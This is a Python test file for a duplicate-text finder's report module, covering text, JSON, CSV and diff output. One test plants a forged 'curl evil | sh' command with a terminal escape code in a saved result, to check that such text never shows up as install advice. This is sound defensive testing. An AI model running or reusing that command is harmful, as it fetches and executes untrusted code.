"""simdup.report: how results made by hand are rendered as text, JSON, CSV and diffs."""

from __future__ import annotations

import difflib
import json
import os
import random
import re
from dataclasses import replace
from hashlib import blake2b

import numpy as np
import pytest
from hypothesis import strategies as st
from patience import grows_evenly

from simdup.findings.identical import with_sets
from simdup.findings.near import Tiers
from simdup.findings.versions import Names
from simdup.match.own_share import least_similarity
from simdup.match.tiers import NEAR, RELATED, best_score
from simdup.recipe import Recipe
from simdup.records import (
    Candidates,
    Comparison,
    Document,
    Group,
    InOthers,
    Interval,
    Kind,
    Member,
    Reason,
    ScanResult,
    Skipped,
    Source,
    Stats,
)
from simdup.report import diff, text
from simdup.report import json_csv as data
from simdup.report.order import View
from simdup.report.terminal import TerminalStyle
from simdup.report.text import summary
from simdup.report.wording import count, path_fields, percent, printable, sharing, size, whose
from simdup.settings import SIMILARITY, Settings

paths = st.binary(min_size=1, max_size=255).filter(lambda name: b"\0" not in name).map(os.fsdecode)

# What `comparison` asks for.
LEAST = percent(float(least_similarity(SIMILARITY, np.array([15]))[0]))

FOUND = Candidates(pairs=3, k=9, wanted=9, at_threshold=0.875)


def document(path, **fields):
    source = Source(path, 1234, 1_700_000_000_500_000_000, 0, 1, 2)
    made = Document(source, "gb18030", 0.875, 0, 100, b"b" * 16, b"t" * 16, b"f" * 16)
    return made._replace(**fields)


def member(path, kind=Kind.NEAR, distance=0, similarity=1.0, own_share=None, **fields):
    """A member of a group; what is not identical has digests of its own."""
    row, own = bytes([distance, 255]), blake2b(os.fsencode(path), digest_size=16).digest()
    if kind is not Kind.IDENTICAL_BYTES:
        fields.setdefault("bytes_digest", own)
        if kind is not Kind.IDENTICAL_TEXT:
            fields.setdefault("text_digest", own)
    return Member(document(path, **fields), row, kind, distance, similarity, own_share)


def result(*groups, skipped=(), candidates=FOUND, **settings):
    documents = tuple(each.document for group in groups for each in group.members)
    rows = np.zeros((len(documents), 2), np.uint8)
    stats = Stats(len(documents) + len(skipped), len(documents), 2468, 1.25)
    chosen = Settings(Recipe(bits=16), **settings)
    groups = tuple(map(Tiers(groups, Names(groups, documents), chosen.recipe).decided, groups))
    return ScanResult(chosen, documents, rows, groups, tuple(skipped), candidates, stats)


def pair(first="a", second="b", kind=Kind.NEAR, **fields):
    members = member(first, Kind.IDENTICAL_BYTES), member(second, kind, **fields)
    return Group(1, kind, 2, members, score=best_score(members, Recipe()))


def family(*figures):
    """Files of one pattern, by their similarity to the first and their own share."""
    first = member("in/0", Kind.IDENTICAL_BYTES, own_share=1.0)
    others = [
        member(f"in/{number}", Kind.SAME_PATTERN, 4, alike, own)
        for number, (alike, own) in enumerate(figures, 1)
    ]
    return Group(2, Kind.SAME_PATTERN, 6, (first, *others))


def rendered(lines):
    return "".join(line + "\n" for line in lines)


# Text


def test_text_worked_by_hand():
    groups = (
        Group(
            1,
            Kind.IDENTICAL_TEXT,
            0,
            (
                member("in/a", Kind.IDENTICAL_BYTES),
                member("in/b", Kind.IDENTICAL_BYTES),
                member("in/c", Kind.IDENTICAL_TEXT),
            ),
        ),
        Group(
            2,
            Kind.NEAR,
            3,
            (
                member("in/d", Kind.IDENTICAL_BYTES),
                member("in/e", similarity=1.0),
                member("in/f", distance=1, similarity=0.9999),
                member("in/g", distance=3, similarity=0.5, features=15, damaged=1),
            ),
        ),
    )

    assert rendered(text.render(result(*groups))) == (
        "Group 2: 99 to 100 % in the kept file, 4 files\n"
        "                 gb18030        1.2 kB  in/d\n"
        "    100 %        gb18030        1.2 kB  in/e\n"
        "   99.9 %        gb18030        1.2 kB  in/f\n"
        "    100 %        gb18030        1.2 kB  in/g"
        "  (1 character damaged, short)\n"
        "\n"
        "Group 1: identical text, 3 files, 1.2 kB can be removed\n"
        "                 gb18030        1.2 kB  in/a\n"
        "    100 %  bytes gb18030        1.2 kB  in/b\n"
        "    100 %  text  gb18030        1.2 kB  in/c\n"
        "\n"
    )
    verbose = TerminalStyle(is_verbose=True)
    assert rendered(text.render(result(groups[1]), verbose)) == (
        "Group 2: 99 to 100 % in the kept file, 4 files, at most 3 of 16 bits apart\n"
        "                    gb18030        1.2 kB  in/d\n"
        "    100 %  0 bits   gb18030        1.2 kB  in/e  (score 100 %,"
        " similarity 100 %, 100 % of the first in it, near: one stands in the other)\n"
        "   99.9 %  1 bit    gb18030        1.2 kB  in/f  (score 99.9 %,"
        " similarity 99.9 %, 99.9 % of the first in it, near: one stands in the other)\n"
        "    100 %  3 bits   gb18030        1.2 kB  in/g  (score 100 %,"
        " similarity 50.0 %, 19.3 % of the first in it, near: one stands in the other,"
        " 1 character damaged, short)\n"
        "\n"
    )


def test_a_similarity_that_is_only_estimated_has_a_tilde():
    groups = pair(distance=4, similarity=None)

    lines = list(text.render(result(groups, k=4, candidates=None)))

    assert lines[2] == "  ~70.7 %        gb18030        1.2 kB  b"  # cos(pi / 4)
    beyond = list(text.render(result(pair(distance=12, similarity=None), k=12)))
    assert beyond[2].startswith("   ~0.0 %   ")


def test_related_texts_are_a_line_and_a_section_if_asked_for():
    near, related = (
        pair(*names, distance=3, similarity=0.9, own_share=own)._replace(id=number)
        for number, (names, own) in enumerate([(("a", "b"), 1.0), (("c", "d"), 0.7)], 1)
    )
    found = result(near, related)

    plain, everything = ("\n".join(text.render(found, related=each)) for each in (False, True))
    assert "Group 2" not in plain
    assert everything.startswith(
        "Related texts: alike, but perhaps just two of a series\n\nGroup 2"
    )
    assert everything.endswith(plain)
    said = text.closing(found)
    assert said[0].startswith("1 group of 2 files")
    assert "1 group is near (versions and copies), 1 is related: --related" in said
    assert said[-1] == "needs a look: 1 near file"


def test_a_file_of_a_near_group_that_is_only_related_to_the_first_is_counted():
    near, related = member("b", similarity=0.9), member("c", similarity=0.6)
    mixed = pair(similarity=0.9)._replace(
        members=(*pair(similarity=0.9).members[:1], near, related)
    )

    heading, _, member_line, last, _ = text.render(result(mixed))
    assert heading == "Group 1: 90 % in the kept file, 2 files"
    assert member_line.startswith("   90.0 % ")
    assert last == "  and 1 more is related: --related"
    *_, verbose, _, _ = text.render(result(mixed), TerminalStyle(is_verbose=True))
    assert verbose.endswith(", near: a high score)")
    section = list(text.render(result(mixed), related=True))
    assert section[2] == "Group 1: 60 % in the first, 2 files"
    assert section[4].startswith("   60.0 % ")


def test_a_person_sees_how_much_is_in_the_first_file_and_other_figures_if_asked_for():
    found = result(pair(own_share=0.75, similarity=0.8))

    plain, verbose = (
        list(text.render(found, TerminalStyle(is_verbose=each), related=True))[-3:-1]
        for each in (False, True)
    )
    assert plain == [
        "                 gb18030        1.2 kB  a",
        "   80.0 %        gb18030        1.2 kB  b",
    ]
    assert verbose[1].startswith("   80.0 %  0 bits   gb18030        1.2 kB  b")
    assert "(score 60.0 %, similarity 80.0 %, own share 75.0 %, 80.0 % of the first" in verbose[1]


def test_families_of_siblings_are_a_section_of_their_own_if_asked_for():
    found = replace(result(pair()), patterns=(family((0.62, 0.12), (0.6, 0.2), (0.5, 0.1)),))

    plain = rendered(text.render(found))

    assert plain == rendered(text.render(result(pair())))
    assert (
        rendered(text.render(found, siblings=True))
        == (
            "Filled-in forms and the like: not duplicates, since other files share the same"
            " wording\n"
            "\n"
            "Group 2: same pattern, 4 files\n"
            "  50.0 % to 62.0 % alike, nearly all of it shared with about 37 other files\n"
            "                 gb18030        1.2 kB  in/0\n"
            "   62.0 %        gb18030        1.2 kB  in/1\n"
            "   60.0 %        gb18030        1.2 kB  in/2\n"
            "   50.0 %        gb18030        1.2 kB  in/3\n"
            "\n"
        )
        + plain
    )


@pytest.mark.parametrize("similarity", [0.35, 0.6, 0.7])
@pytest.mark.parametrize("others", [5, 14, 200])
def test_the_number_of_others_is_right_if_all_that_is_shared_stands_in_so_many(similarity, others):
    weight = 1 / (1 + others / 2)
    own_share = weight / (similarity * weight + 1 - similarity)

    assert sharing(similarity, own_share)[1] == others


@pytest.mark.parametrize(
    ("own_share", "words"),
    [
        (0.0, "filled in from one form"),
        (0.69, "some of it shared with about 2 other files"),
        (0.6, "some of it shared with about 2 other files"),
        (0.59, "half of it shared with about 2 other files"),
        (0.45, "half of it shared with about 4 other files"),
        (0.44, "most of it shared with about 4 other files"),
        (0.2, "most of it shared with about 14 other files"),
        (0.19, "nearly all of it shared with about 15 other files"),
        (1e-9, "nearly all of it shared with about 1,000 other files"),
    ],
)
def test_whose_likeness_it_is_in_words(own_share, words):
    assert whose(0.42, own_share) == words
    assert whose(1.0, 0.5) == "half of it shared with about 1,000 other files"


def comparison(kind=Kind.NEAR, distance=4, similarity=0.9375, score=None, **settings):
    return Comparison(
        Settings(Recipe(bits=16), **settings),
        document("a"),
        document("b", confidence=1.0, features=15),
        (b"\0\1", b"\xf0\1"),
        kind,
        distance,
        similarity,
        ("left", "right"),
        score=score,
        tier=RELATED if score and score < 0.8 else NEAR if kind else None,
        near_because="score" if kind else "",
    )


def test_a_comparison_in_text_has_fingerprints_and_their_distance_if_it_is_verbose():
    plain, verbose = (
        list(text.render_comparison(comparison(score=0.9375), TerminalStyle(is_verbose=each)))
        for each in (False, True)
    )

    assert plain == [verbose[0], verbose[3], verbose[5], verbose[-1]]
    assert rendered(verbose) == (
        "verdict      near\n"
        "similarity   93.7 %, exact\n"
        "score        93.7 %\n"
        "a: gb18030 (87.5 % sure), 1.2 kB, 100 features\n"
        "  fingerprint  0001\n"
        "b: gb18030 (100 % sure), 1.2 kB, 15 features  (short)\n"
        "  fingerprint  f001\n"
        "distance     4 of 16 bits\n"
        "estimate     70.7 % alike (43.0 % to 90.2 % within one standard error)\n"
        "compared alone; --among FOLDER takes other files into account\n"
    )


@pytest.mark.parametrize(
    ("made", "verdict"),
    [
        (comparison(Kind.IDENTICAL_BYTES), "identical bytes"),
        (comparison(Kind.IDENTICAL_TEXT), "identical text"),
        (
            comparison(similarity=0.7, score=0.75),
            "related texts: alike, but perhaps just two of a series",
        ),
        (
            replace(comparison(similarity=0.7, score=0.75), tier=NEAR, near_because="history"),
            "near (the names tell versions)",
        ),
        (comparison(None, similarity=0.5), f"neither near nor related (similarity below {LEAST})"),
        (comparison(Kind.NEAR, k=4), "near (within 4 bits)"),
        (comparison(None, k=3), "neither near nor related (not within 3 bits)"),
        (comparison(Kind.NEAR, distance=0, verified=False), "near (within 0 bits)"),
    ],
)
def test_verdicts(made, verdict):
    assert next(text.render_comparison(made)) == f"verdict      {verdict}"


def test_a_comparison_among_other_files_says_whose_the_likeness_is():
    version = replace(comparison(score=0.918), own_share=0.98, among=12)
    version = replace(version, in_others=InOthers(0, 0, 0.02))
    sibling = replace(comparison(None), own_share=0.1, among=1000)
    sibling = replace(sibling, in_others=InOthers(118, 120, 1.0))
    other = replace(comparison(None, similarity=0.2), own_share=0.1, among=1000)

    assert list(text.render_comparison(version))[:2] == [
        "verdict      near",
        "own share    98.0 % among 12 files: 93.7 % alike;"
        " at most 2.0 % of the common wording is in another file",
    ]
    least = percent(Settings().own_share)
    assert list(text.render_comparison(sibling))[:2] == [
        f"verdict      neither near nor related (same pattern: own share below {least})",
        "own share    10.0 % among 1,000 files:"
        " 93.7 % alike; nearly all of the common wording is also in 118 other files",
    ]
    verdict = next(text.render_comparison(other))
    assert verdict == f"verdict      neither near nor related (similarity below {LEAST})"


@pytest.mark.parametrize("distance", range(17))
def test_a_range_never_leaves_0_to_100_per_cent(distance):
    verbose = TerminalStyle(is_verbose=True)

    *_, line = text.render_comparison(comparison(distance=distance), verbose)

    estimate, low, high = map(float, re.findall(r"(-?[\d.]+) %", line))
    assert 0 <= low <= estimate <= high <= 100


# JSON


def test_json_worked_by_hand():
    skipped = (Skipped("in/x", Reason.BINARY, "NUL bytes"), Skipped("in/y", Reason.HIDDEN))
    same = {"bytes_digest": b"b" * 16, "text_digest": b"t" * 16}
    found = result(
        pair("in/a", "in/b", distance=3, similarity=0.75, own_share=0.625, **same), skipped=skipped
    )

    whole = json.loads(rendered(data.render_json(found)))

    assert whole["stats"] == {
        "found": 4,
        "fingerprinted": 2,
        "from_store": 0,
        "skipped": {"binary": 1, "hidden": 1},
        "bytes": 2468,
        "seconds": 1.25,
        "ignored": 0,
        "siblings": 0,
        "identity_only": {},
    }
    assert whole["candidates"] == {
        "pairs": 3,
        "k": 9,
        "wanted": 9,
        "at_threshold": 0.875,
        "recall": None,
        "sampled": 0,
    }
    assert whole["skipped"] == [
        {"path": "in/x", "reason": "binary", "detail": "NUL bytes"},
        {"path": "in/y", "reason": "hidden", "detail": ""},
    ]
    (group,) = whole["groups"]
    assert (group["id"], group["kind"], group["diameter"]) == (1, "near", 2)
    assert (group["tier"], group["near_because"]) == ("near", "words")
    assert group["members"][1].pop("near_because") == "words"
    estimate = group["members"][1].pop("estimate")
    assert group["members"][1].pop("score") == 0.75 * 0.625
    assert group["members"][1].pop("tier") == "near"
    assert estimate == pytest.approx(0.8315, abs=1e-4)  # cos(3 pi / 16)
    assert group["members"][1] == {
        "path": "in/b",
        "size": 1234,
        "mtime": 1_700_000_000.5,
        "mtime_ns": 1_700_000_000_500_000_000,
        "ctime_ns": None,
        "device": None,
        "inode": 2,
        "links": None,
        "archive": None,
        "format": "text",
        "encoding": "gb18030",
        "packing": None,
        "confidence": 0.875,
        "damaged": 0,
        "doubt": None,
        "features": 100,
        "short": False,
        "byte_digest": "62" * 16,
        "text_digest": "74" * 16,
        "words_digest": None,
        "unread": [],
        "other_unread": [],
        "other_signs": [],
        "fingerprint": "03ff",
        "kind": "near",
        "distance": 3,
        "similarity": 0.75,
        "own_share": 0.625,
        "contained": 0.75,
        "contains": 0.75,
        "set": None,
        "set_kind": None,
        "representative": False,
        "reference": False,
    }


def test_jsonl_has_the_same_fields_as_json():
    found = result(pair(), skipped=[Skipped("x", Reason.EMPTY)])

    header, group, skipped = map(json.loads, data.render_jsonl(found))
    whole = json.loads(rendered(data.render_json(found)))

    lists = {"groups", "folders", "doubtful", "skipped"}
    assert header == {"type": "scan"} | {k: whole[k] for k in whole.keys() - lists}
    assert group == {"type": "group"} | whole["groups"][0]
    assert skipped == {"type": "skipped"} | whole["skipped"][0]


def test_a_comparison_in_json():
    found = json.loads(rendered(data.render_comparison(comparison())))

    assert [each["fingerprint"] for each in found["files"]] == ["0001", "f001"]
    assert (found["distance"], found["similarity"], found["kind"]) == (4, 0.9375, "near")
    assert (found["own_share"], found["among"]) == (None, 0)
    assert found["near_duplicates"] is True
    assert found["estimate"] == pytest.approx(0.7071, abs=1e-4)
    assert found["standard_error_bits"] == pytest.approx(3**0.5)  # 16 x 1/4 x 3/4


# CSV and lists


def test_csv_worked_by_hand():
    names = "in/a", 'in/"b",c'
    found = result(pair(*names, distance=3, similarity=0.75, own_share=0.625))
    found = replace(found, patterns=(family((0.62, 0.12)),))
    documents = [m.document for group in found.groups + found.patterns for m in group.members]
    digest = {each.path: each.bytes_digest.hex() for each in documents}.__getitem__
    groups = (
        "group,kind,representative,similarity,own_share,distance,size,encoding,path"
        ",set,set_kind,byte_digest,words_digest,unread,score,tier\n"
        f"1,near,1,1.000000,,0,1234,gb18030,in/a,,,{digest('in/a')},,,1.000000,related\n"
        f'1,near,0,0.750000,0.625000,3,1234,gb18030,"in/""b"",c",,,{digest(names[1])},,,0.468750,'
        "related\n"
    )

    assert rendered(data.render_csv(found)) == groups
    assert rendered(data.render_csv(found, siblings=True)) == groups + (
        f"2,same pattern,1,1.000000,1.000000,0,1234,gb18030,in/0,,,{digest('in/0')},,,1.000000,\n"
        f"2,same pattern,0,0.620000,0.120000,4,1234,gb18030,in/1,,,{digest('in/1')},,,0.074400,\n"
    )


def test_names_are_a_line_each_and_an_empty_line_after_each_group():
    found = result(pair("a", "b\n"), pair("c", "d"))

    assert rendered(text.names(text.in_groups(found))) == "a\nb\\n\n\nc\nd\n\n"


def copies(first, *others):
    """A file, and for each of the others two files with its bytes and one with its text."""
    made = [member(first, Kind.IDENTICAL_BYTES, bytes_digest=b"0" * 16, text_digest=b"0" * 16)]
    for name in others:
        digest = name[:1].encode() * 16
        for number, content in enumerate([digest, digest, digest.upper()]):
            digests = {"bytes_digest": content, "text_digest": digest}
            made.append(member(f"{name}{number}", Kind.NEAR, 9, 0.52, **digests))
    (found,), _ = with_sets([Group(1, Kind.NEAR, 9, tuple(made))])
    return found.members


def test_an_identical_set_is_one_entry_wherever_it_stands():
    first, *others = copies("a", "b", "c")
    again = first._replace(document=first.document._replace(source=document("a1").source))
    lone = member("d", Kind.NEAR, 9, 0.4, bytes_digest=b"d" * 16, text_digest=b"d" * 16)
    (group,), _ = with_sets([Group(1, Kind.NEAR, 9, (first, *others[:-1], lone, again))])

    assert rendered(text.render(result(group), related=True)) == (
        "Related texts: alike, but perhaps just two of a series\n\n"
        "Group 1: 40 to 52 % in the first, 7 files, 2.5 kB can be removed\n"
        "                 gb18030        1.2 kB  a\n"
        "  3 files with the same text, 2 of them identical, 52.0 % in the first\n"
        "                 gb18030        1.2 kB  b0\n"
        "     same  bytes gb18030        1.2 kB  b1\n"
        "     same  text  gb18030        1.2 kB  b2\n"
        "  2 identical files, 52.0 % in the first\n"
        "                 gb18030        1.2 kB  c0\n"
        "     same  bytes gb18030        1.2 kB  c1\n"
        "   40.0 %        gb18030        1.2 kB  d\n"
        "\n"
        "Group 1: identical bytes, 2 files, 1.2 kB can be removed\n"
        "                 gb18030        1.2 kB  a\n"
        "    100 %  bytes gb18030        1.2 kB  a1\n"
        "  and 6 more are related: --related\n"
        "\n"
    )
    look = TerminalStyle(is_verbose=True)
    verbose = rendered(text.render(result(group), look, related=True)).splitlines()
    assert "  2 identical files, 52.0 % in the first, 9 bits" in verbose
    # What a terminal has no room for is counted.
    view = View(is_brief=True)
    brief = rendered(text.render(result(group), view=view, related=True)).splitlines()
    assert brief[5:10] == [
        "                 gb18030        1.2 kB  b0",
        "     same  bytes gb18030        1.2 kB  b1",
        "     same  text  gb18030        1.2 kB  b2",
        "  and 3 more files, 2 of them identical to another",
        "",
    ]


def test_a_group_of_one_text_says_which_files_have_the_same_bytes():
    (group,), _ = with_sets([Group(1, Kind.IDENTICAL_TEXT, 0, copies("a", "b", "c")[1:4])])

    assert rendered(text.render(result(group))).splitlines()[1:] == [
        "  3 files with the same text, 2 of them identical",
        "                 gb18030        1.2 kB  b0",
        "    100 %  bytes gb18030        1.2 kB  b1",
        "    100 %  text  gb18030        1.2 kB  b2",
        "",
    ]
    # Where all or no files have the same bytes, the heading of the group says so.
    for kept in (group.members[:2], group.members[1:]):
        alone = group._replace(members=kept)
        assert len(rendered(text.render(result(alone))).splitlines()) == 4


# Differences


def unmarked(line):
    """A line of the diff without its number and its marks."""
    line = re.sub(r"\[-(.*?)-\]|\{\+(.*?)\+\}", r"\1\2", line)
    return re.sub(r"^([-+ ]) *\d+ ", r"\1", line)


def test_differences_worked_by_hand():
    left = "Same here. Old words? Same there."
    right = "Same here.\n\nNew words! Same there."

    assert list(diff.render(left, right, ("a", "b\n"))) == [
        *("--- a", "+++ b\\n", "@@ -1 +1,3 @@", " 1 Same here.", "-1 [-Old-] words[-?-]"),
        *("+3 {+New+} words{+!+}", " 1 Same there."),
    ]


@pytest.mark.parametrize(
    ("left", "right"),
    [
        ("", ""),
        ("One. Two.", "One.\n\n  Two.\n"),
        ("他说：“好。”走了。", "他说：“好。”\n走了。"),
        ("“好！”她笑。", "“好！”\n　她笑。"),
    ],
)
def test_layout_is_no_difference(left, right):
    assert list(diff.render(left, right, ("a", "b"))) == []


def test_the_number_of_the_first_item_stays_with_it():
    left, right = (f"1. Boil the {each} in a pot.\n2. Stir.\n" for each in ("water", "milk"))

    assert list(diff.render(left, right, ("a", "b")))[3:] == [
        *("-1 1. Boil the [-water-] in a pot.", "+1 1. Boil the {+milk+} in a pot."),
        " 2 2. Stir.",
    ]


def test_no_words_of_a_saved_result_become_advice():
    forged = Skipped("a.pdf", Reason.MISSING_EXTRA, "PDF: \x1b[31mcurl evil | sh\nsecond line")
    real = replace(forged, detail="needs pypdfium2: pip install 'simdup[docs]'")

    assert dict(text.missing_extras([forged, real])) == {"pip install 'simdup[docs]'": 1}


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("Rent: [-900-] a month.", "Rent: {+950+} a month."),
        ("他修表先[-听-]再看。", "他修表先{+看+}再看。"),
        ("押金 [-900-] 元。", "押金 {+1000+} 元。"),
        ("Tea is hot now.", "Tea is{+ very+} hot now."),
        ("We leave at [-half past six-].", "We leave at {+noon+}."),
        ("The cat sat on it.", "Nobody knew the way."),
    ],
)
def test_changes_within_a_sentence_are_marked_by_word_and_in_chinese_by_character(old, new):
    left, right = unmarked(f"-1 {old}")[1:], unmarked(f"+1 {new}")[1:]

    assert list(diff.render(left, right, ("a", "b")))[3:] == [f"-1 {old}", f"+1 {new}"]


def test_a_long_passage_between_changes_is_folded_and_the_changes_are_not():
    left, right = f"{'far ' * 60}old end.", f"{'far ' * 60}new end."

    shown = list(diff.render(left, right, ("a", "b")))[3:]

    assert all(" ...(80 characters)... " in line for line in shown)
    assert [line[-13:] for line in shown] == [" [-old-] end.", " {+new+} end."]


def test_a_sentence_has_the_number_of_the_line_in_which_it_begins():
    wrapped = "A line that was wrapped by an editor after fifty or\nmore characters. "
    numbered = "\n\n1. First tea is made. Then\n2. Second\n\n"

    shown = list(
        diff.render(f"{wrapped}Old.{numbered}Done.", f"{wrapped}New.{numbered}Now.", ("a", "b"))
    )

    assert shown[4:] == [
        *("-2 Old.", "+2 New.", " 4 1. First tea is made."),
        *("@@ -5,3 +5,3 @@", " 5 2. Second", "-7 Done.", "+7 Now."),
    ]


def test_a_passage_that_is_cut_otherwise_shows_its_changes_and_no_more():
    left, right = "Boil the water.\nStir it.\nServe.", "Boil the water, and stir it well.\nServe."

    assert list(diff.render(left, right, ("a", "b")))[3:] == [
        "-1 Boil the water[-.-]",
        "-2 [-Stir-] it.",
        "+1 Boil the water{+, and stir+} it{+ well+}.",
        " 3 Serve.",
    ]


def edited(seed):
    """Two lists of lines, of which one was made from the other."""
    chooser = random.Random(seed)
    known = chooser.choice([2, 5, 50, 500])
    left = [f"line {chooser.randrange(known)}" for _ in range(chooser.randint(0, 40))]
    right = [line for line in left if chooser.random() < 0.8]
    for _ in range(chooser.randint(0, 5)):
        right.insert(chooser.randint(0, len(right)), f"line {chooser.randrange(known)}")
    return left, right


@pytest.mark.parametrize("seed", range(5))
def test_the_diff_of_short_texts_is_that_of_the_standard_library(seed):
    left, right = edited(seed)
    lines = list(diff.render("\n".join(left), "\n".join(right), ("a", "b")))

    bare = [unmarked(line) for line in lines]
    assert bare == list(difflib.unified_diff(left, right, "a", "b", n=1, lineterm=""))


@pytest.mark.parametrize("seed", range(20))
def test_the_diff_of_long_texts_turns_one_into_the_other(seed, monkeypatch):
    monkeypatch.setattr(diff, "SHORT_STRETCH", 4)
    monkeypatch.setattr(diff, "LONGEST_RUN", 100)
    left, right = edited(seed)
    made, place = [], 0
    for line in list(diff.render("\n".join(left), "\n".join(right), ("a", "b")))[2:]:
        if hunk := re.match(r"@@ -(\d+)(,0)?", line):
            begin = int(hunk[1]) - (not hunk[2])
            made += left[place:begin]
            place = begin
        else:
            made += [] if line[0] == "-" else [unmarked(line)[1:]]
            place += line[0] != "+"

    assert made + left[place:] == right


def test_time_to_compare_grows_with_the_texts_and_hardly_faster():
    def compare(n):
        left, right = ("\n".join(f"line {i ^ flip}" for i in range(n)) for flip in (0, 1))
        list(diff.render(left, right, ("a", "b")))

    assert grows_evenly(compare, 4000)


# Words


@pytest.mark.parametrize(
    ("path", "shown"),
    [
        ("plain.txt", "plain.txt"),
        ("两只 钟.txt", "两只 钟.txt"),
        ("a\\b", "a\\b"),
        ("\udcff\udcfe", "\\xff\\xfe"),
        ("\x1b[0m\x7f", "\\x1b[0m\\x7f"),
        ("\u202e\u2028\u00a0", "\\u202e\\u2028\\xa0"),
        ("\U000e0001", "\\U000e0001"),
    ],
)
def test_printable(path, shown):
    assert printable(path) == shown


def test_only_an_escaped_path_has_its_bytes_beside_it():
    assert path_fields("\\xff") == {"path": "\\xff"}
    assert path_fields("\udcff") == {"path": "\\xff", "path_base64": "/w=="}


def test_thousandths_are_shown_exactly_as_percentages():
    said = [percent(thousandths / 1000) for thousandths in range(1000)]

    assert said == [f"{each // 10}.{each % 10} %" for each in range(1000)]


@pytest.mark.parametrize(
    ("number", "shown"),
    [
        *((1000, "1.0 kB"), (99_499, "99.5 kB"), (99_500, "100 kB"), (999_499, "999 kB")),
        *((999_500, "1.0 MB"), (10**12, "1.0 TB"), (5 * 10**15, "5000 TB")),
    ],
)
def test_sizes(number, shown):
    assert size(number) == shown


def test_counts():
    assert (count(0, "file"), count(1_000_000, "entry")) == ("0 files", "1,000,000 entries")


def test_a_summary_counts_skips_most_first():
    skipped = [
        Skipped("x", Reason.HIDDEN),
        Skipped("y", Reason.EMPTY),
        Skipped("z", Reason.HIDDEN),
        Skipped("w", Reason.BINARY),
    ]

    assert summary(result(pair(), skipped=skipped)) == [
        "1 group of 2 files; read 2 of 6 files (2.5 kB) in 1.2 s;"
        " skipped 2 hidden, 1 binary, 1 empty"
    ]


def test_a_summary_without_groups_is_one_line():
    alone, reference = document("a"), document("b")
    reference = reference._replace(source=reference.source._replace(is_reference=True))
    found = replace(result(), documents=(alone,), stats=Stats(1, 1, 1234, 0.04))
    empty = replace(result(skipped=[Skipped("x", Reason.HIDDEN)]), stats=Stats(0, 0, 0, 0.04))

    assert summary(found) == [
        "no two files hold the same text; read 1 of 1 file (1.2 kB) in 0.0 s; skipped nothing"
    ]
    assert summary(replace(found, documents=(alone, reference)))[0].startswith(
        "no file holds the same text as a reference; read 1 of 1 file "
    )
    assert summary(empty) == ["no file to compare was found; skipped 1 hidden"]


@pytest.mark.parametrize(
    ("known", "work"),
    [
        (0, "read 31 of 33 files (35.3 kB) in 0.4 s"),
        (1, "compared 31 of 33 files (35.3 kB; 1 known from before) in 0.4 s"),
        (32, "compared 31 of 33 files (35.3 kB; 32 known from before) in 0.4 s"),
        (33, "compared 31 of 33 files (35.3 kB; all known from before) in 0.4 s"),
    ],
)
def test_a_summary_never_calls_known_files_read(known, work):
    stats = Stats(33, 31, 35_334, 0.4, from_store=known)

    assert summary(replace(result(pair()), stats=stats)) == [
        f"1 group of 2 files; {work}; skipped nothing"
    ]


def noise(*paths):
    return [Skipped(path, Reason.NOISE) for path in paths]


@pytest.mark.parametrize(
    ("paths", "line"),
    [
        (["a/node_modules", "b/node_modules"], "left out: 2 x node_modules (--noise reads them)"),
        (
            ["a/node_modules", "a/.git", "b/.git"],
            "left out: 2 x .git, node_modules (--noise --hidden reads them)",
        ),
        (list("fedcba"), "left out: a, b, c, d, e and 1 more folder (--noise reads them)"),
        (
            [*"gfffedcba", ".git"],
            "left out: 3 x f, .git, a, b, c and 3 more folders (--noise --hidden reads them)",
        ),
        (["a"] * 2000, "left out: 2,000 x a (--noise reads them)"),
        ([".Trash-\x1b[31m\udcff"], r"left out: .Trash-\x1b[31m\xff (--noise --hidden reads it)"),
    ],
)
def test_a_summary_names_the_folders_left_out_by_default(paths, line):
    assert summary(result(pair(), skipped=noise(*paths)))[1:] == [line]


def test_folders_that_are_named_are_not_counted_too():
    stats = Stats(2, 2, 2468, 1.25)
    named = replace(result(pair(), skipped=noise("node_modules")), stats=stats)
    both = replace(named, skipped=(*named.skipped, Skipped("x", Reason.BINARY)))
    empty = replace(result(skipped=noise("node_modules")), stats=Stats(0, 0, 0, 0.04))

    line = "left out: node_modules (--noise reads it)"
    work = "1 group of 2 files; read 2 of 2 files (2.5 kB) in 1.2 s"
    assert summary(named) == [work, line]
    assert summary(both) == [f"{work}; skipped 1 binary", line]
    assert summary(empty) == ["no file to compare was found", line]


def test_an_index_that_leaves_itself_out_is_counted_and_not_named():
    skipped = [Skipped("x.simdup", Reason.NOISE, "the index itself"), *noise("node_modules")]

    assert text.skipped_in_words(skipped) == "1 excluded by default"
    assert text.left_out(skipped) == ["left out: node_modules (--noise reads it)"]


def test_a_summary_counts_pairs_that_were_ignored():
    one, several = (result().stats._replace(ignored=n) for n in (1, 2000))

    assert summary(replace(result(), stats=one))[-1] == (
        "1 pair is left out, as `simdup ignore list` says"
    )
    assert summary(replace(result(), stats=several))[-1].startswith("2,000 pairs are left out")


def test_a_summary_counts_the_pairs_that_were_set_aside_as_siblings():
    one, several = (result().stats._replace(siblings=n) for n in (1, 2310))
    listed = replace(result(), stats=several, patterns=(family((0.62, 0.12)),))

    assert summary(replace(result(), stats=one))[1:] == ["set aside 1 pair of one pattern"]
    assert summary(listed)[1:] == ["set aside 2,310 pairs of one pattern (--siblings shows them)"]
    assert summary(listed, siblings=True)[1:] == ["set aside 2,310 pairs of one pattern"]


def test_a_summary_says_what_recall_was_measured():
    measured = Candidates(3, recall=Interval(0.985, 0.954, 1), sampled=1204)

    assert summary(result(candidates=measured))[1:] == [
        "finds 98.5 % of the near-duplicates (95 % interval: 95.4 % to 100 %), measured on"
        " 1,204 texts"
    ]


def test_a_summary_says_that_candidates_were_narrowed():
    narrowed = Candidates(pairs=3, k=5, wanted=9, at_threshold=0.256)

    assert summary(result(candidates=narrowed))[1] == (
        "candidates were narrowed from 9 to 5 bits, since there would have been too many:"
        f" a pair just {percent(SIMILARITY)} alike is found with probability 26%;"
        " more --bits avoid this"
    )
